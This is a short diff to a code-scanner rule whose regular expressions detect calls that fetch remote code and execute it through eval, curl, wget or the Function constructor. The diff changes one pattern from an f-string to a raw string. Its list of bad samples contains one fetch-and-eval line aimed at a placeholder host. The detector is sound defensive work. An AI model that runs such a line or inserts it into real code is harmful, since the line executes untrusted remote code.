@@ -16,7 +16,7 @@ RULE = ScannerRule(
     check=(
         Pattern(rf"{CALL}.*{FETCH}", unless=rf"{DEFINITION}|(?:^|\s)(?:#|//)\s[^\"'()]*$"),
         Pattern(r"""(?:^|[^\w.-])eval\s+["']?\s*(?:\$\(|`).*\b(?:curl|wget)\b"""),
-        Pattern(rf"\b(?:new\s+)?Function\s*\(.*\bfetch\w*\s*\("),
+        Pattern(r"\b(?:new\s+)?Function\s*\(.*\bfetch\w*\s*\("),
     ),
     bad=(
         "eval(fetch('https://x.example/p.js'))",
